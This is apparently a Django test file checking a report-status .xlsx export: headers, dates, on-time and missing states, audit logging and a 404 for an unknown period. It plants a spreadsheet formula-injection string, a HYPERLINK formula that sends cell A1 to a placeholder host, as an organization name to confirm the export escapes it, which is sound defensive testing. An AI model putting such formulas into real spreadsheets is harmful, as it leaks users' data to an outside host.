"""A period's report status as .xlsx: who filed, on time or late, who is missing; audited, text written as text."""

from __future__ import annotations

import datetime
import io

import openpyxl
from django.urls import reverse
from django.utils import timezone

from chuxin.audit.models import AuditEntry
from chuxin.orgs.models import Organization
from chuxin.reports.models import Report

HOSTILE = '=HYPERLINK("http://x/?"&A1,"x")'
D = datetime.date


def _at(day):
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(9)))


def test_the_period_status_exports_with_dates_states_and_safe_text(world, monthly, january, client_for):
    Organization.objects.filter(pk=world.b2.pk).update(name=HOSTILE)
    Report.objects.create(period=january, organization=world.b1, status="accepted", author=world.secretary,
                          first_submitted_at=_at(D(2026, 2, 12)), submitted_at=_at(D(2026, 2, 12)))
    client = client_for(world.worker)
    page = client.get(reverse("reports:requirement", args=[monthly.pk]), {"period": january.pk}).content.decode()
    url = reverse("reports:requirement-export", args=[monthly.pk])
    assert f"{url}?period={january.pk}" in page

    response = client.get(url, {"period": january.pk})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert monthly.title in ws["A1"].value
    assert [c.value for c in ws[2]] == ["报告人", "状态", "按时", "首次提交", "已提交", "撰写人"]
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].width == 36 and ws.column_dimensions["D"].width == 18
    rows = [[c for c in row] for row in ws.iter_rows(min_row=3)]
    assert [r[0].value for r in rows] == [world.b1.name, "'" + HOSTILE]
    filed, missing = rows
    assert [filed[1].value, filed[2].value, filed[5].value] == ["已通过", "逾期", str(world.secretary)]
    assert isinstance(filed[3].value, datetime.datetime) and filed[3].value.date() == D(2026, 2, 12)
    assert missing[1].value == "未报送" and missing[3].value is None
    assert missing[0].data_type == "s"
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT, actor=world.worker)
    assert entry.organization == world.pc and entry.changes["rows"] == 2


def test_an_unknown_period_is_not_exported(world, monthly, client_for):
    response = client_for(world.worker).get(reverse("reports:requirement-export", args=[monthly.pk]),
                                            {"period": "x"})
    assert response.status_code == 404
